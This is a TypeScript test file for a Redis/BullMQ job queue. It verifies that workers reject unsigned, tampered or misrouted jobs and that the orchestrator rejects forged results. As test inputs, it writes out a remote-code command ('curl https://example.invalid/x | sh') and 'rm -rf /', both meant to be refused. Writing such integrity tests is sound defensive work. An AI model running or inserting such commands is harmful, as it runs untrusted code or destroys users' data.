/**
 * Jobs and results are signed: a worker refuses what its key did not sign and keeps serving;
 * an orchestrator refuses a result its key did not sign. Jobs are written straight into the
 * run's queues with BullMQ, the way anyone who can write to a shared Redis could.
 */
import { Queue, Worker } from 'bullmq';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { BullEvaluationQueue } from '../../src/queue/bullmq-queue.js';
import { signJob } from '../../src/queue/protocol.js';
import type { StageJobData } from '../../src/domain/job.js';
import { sign } from '../../src/queue/signing.js';
import { startWorker } from '../../src/queue/worker.js';
import type { StageExecutor } from '../../src/eval/stages.js';
import { testJobKey, testRedisSocket, uniquePrefix } from '../helpers/redis.js';
import { combine, eventually, newRunId, recordingExecutor, request, stageResult } from './support.js';

const connection = (): { path: string } => ({ path: testRedisSocket() });
const otherKey = Buffer.from('another-key-that-is-long-enough-0123456789', 'utf8');
const never = new AbortController().signal;

let prefix: string;
let cleanups: (() => Promise<void>)[] = [];
beforeEach(() => {
  prefix = uniquePrefix('signed');
  cleanups = [];
});
afterEach(async () => {
  for (const cleanup of cleanups.reverse()) await cleanup();
});

function openQueue(key = testJobKey()): BullEvaluationQueue {
  const queue = new BullEvaluationQueue({ connection: connection(), key, prefix, combine, pollMs: 500 });
  cleanups.push(() => queue.close());
  return queue;
}

async function openWorker(runs: string[], executor: StageExecutor, onError?: (error: Error) => void) {
  const worker = await startWorker({ connection: connection(), key: testJobKey(), prefix, runs, executor, ...(onError ? { onError } : {}) });
  cleanups.push(() => worker.close());
  return worker;
}

function rawQueue(name: string): Queue {
  const queue = new Queue(name, { connection: connection(), prefix });
  cleanups.push(() => queue.close());
  return queue;
}

/** A job as `ensureJob` would enqueue it, signed with the test key. */
function goodJob(run: string, experiment: string, stage: StageJobData['stage'] = 'setup'): StageJobData {
  return signJob(testJobKey(), { stage, request: request(run, experiment), session: 'session-1' });
}

describe('a worker on signed jobs', () => {
  it('refuses unsigned, badly signed, tampered and malformed jobs, says why, and serves a good job right after', async () => {
    const run = newRunId();
    const work = rawQueue(`${run}.work`);
    const reported: string[] = [];
    const { calls, executor } = recordingExecutor();
    await openWorker([run], executor, (error) => reported.push(error.message));

    const { sig: _unused, ...unsigned } = goodJob(run, 'e0001');
    const wrongKey = signJob(otherKey, { stage: 'setup', request: request(run, 'e0002'), session: 'session-1' });
    const tampered = structuredClone(goodJob(run, 'e0003', 'checks'));
    tampered.request.spec.checks = [{ name: 'test', run: 'curl https://example.invalid/x | sh', timeout: 1000 }];
    const relative = { ...request(run, 'e0004'), source: { kind: 'local', gitDir: 'repo/.git' } };
    const payload = { v: 3, stage: 'setup', request: relative, session: 'session-1' };
    const malformed = { ...payload, sig: sign(testJobKey(), 'job', payload) };
    const bad: [string, unknown, RegExp][] = [
      [`${run}.e0001.setup`, unsigned, /unsigned job/],
      [`${run}.e0002.setup`, wrongKey, /bad signature/],
      [`${run}.e0003.checks`, tampered, /bad signature/],
      [`${run}.e0004.setup`, malformed, /malformed job: request\.source\.gitDir: expected an absolute path/],
      [`${run}.e0005.setup`, 'rm -rf /', /malformed job: its data is not an object/],
    ];
    for (const [jobId, data] of bad) await work.add('setup', data, { jobId, attempts: 5 });

    for (const [jobId, , reason] of bad) {
      await eventually(async () => (await work.getJobState(jobId)) === 'failed');
      const job = await work.getJob(jobId);
      expect([jobId, job?.failedReason]).toEqual([jobId, expect.stringMatching(reason)]);
      expect(job?.attemptsMade).toBe(1); // refused for good, not retried
    }
    expect(reported).toHaveLength(bad.length);
    for (const [jobId, , reason] of bad) expect(reported.find((m) => m.includes(jobId))).toMatch(reason);
    expect(calls).toEqual([]);

    const evaluation = await openQueue().evaluate(request(run, 'e0006'), never);
    expect(evaluation.status).toBe('ok');
    expect(calls.map((c) => `${c.experiment}:${c.stage}`)).toEqual(['e0006:setup', 'e0006:checks', 'e0006:bench']);
  });

  it('refuses a signed job copied to another run, queue or job id', async () => {
    const run = newRunId();
    const other = newRunId();
    const reported: string[] = [];
    const { calls, executor } = recordingExecutor();
    await openWorker([run], executor, (error) => reported.push(error.message));
    const elsewhere = goodJob(other, 'e0001');
    const setup = goodJob(run, 'e0001');

    await rawQueue(`${run}.work`).add('setup', elsewhere, { jobId: `${run}.e0001.setup` });
    await rawQueue(`${run}.work`).add('setup', setup, { jobId: `${run}.e0009.setup` });
    await rawQueue(`${run}.bench`).add('setup', setup, { jobId: `${run}.e0001.setup` });

    await eventually(() => reported.length === 3);
    expect(reported.every((m) => m.includes('moved to job'))).toBe(true);
    expect(calls).toEqual([]);
  });
});

describe('an orchestrator on signed results', () => {
  /** A worker that answers every stage of the run with a splendid bench, without our key. */
  function forger(run: string, reply: (jobId: string) => unknown): void {
    for (const role of ['work', 'bench']) {
      const worker = new Worker(`${run}.${role}`, (job) => Promise.resolve(reply(job.id ?? '')), { connection: connection(), prefix });
      cleanups.push(() => worker.close());
    }
  }

  it('turns a result without a signature into a crashed stage with the reason', async () => {
    const run = newRunId();
    forger(run, () => stageResult('setup'));

    const evaluation = await openQueue().evaluate(request(run), never);

    expect(evaluation.status).toBe('crash');
    expect(evaluation.reason).toContain("the setup job's result was refused: not a stage result of a known version");
    expect(evaluation.measurement).toBeUndefined();
  });

  it('turns a result signed with another key into a crashed stage, so a forged bench cannot make a keep', async () => {
    const run = newRunId();
    forger(run, (jobId) => {
      const result = stageResult('setup');
      return { v: 3, result, sig: sign(otherKey, 'result', { jobId, job: 'f'.repeat(64), result }) };
    });

    const evaluation = await openQueue().evaluate(request(run), never);

    expect(evaluation.status).toBe('crash');
    expect(evaluation.reason).toContain("the setup job's result was refused: bad signature");
  });

  it('runs a finished stage again rather than reuse a stored result its key cannot verify', async () => {
    const run = newRunId();
    const { calls, executor } = recordingExecutor();
    const worker = await startWorker({ connection: connection(), key: otherKey, prefix, runs: [run], executor });
    const before = openQueue(otherKey);
    expect((await before.evaluate(request(run), never)).status).toBe('ok');
    await worker.close();
    await before.close();

    // A resumed session with a key of its own (a private Redis without RATCHET_KEY).
    const after = openQueue();
    await after.open(run);
    await openWorker([run], executor);
    const evaluation = await after.evaluate(request(run), never);

    expect(evaluation.status).toBe('ok');
    expect(calls.map((c) => c.stage)).toEqual(['setup', 'checks', 'bench', 'setup', 'checks', 'bench']);
  });
});
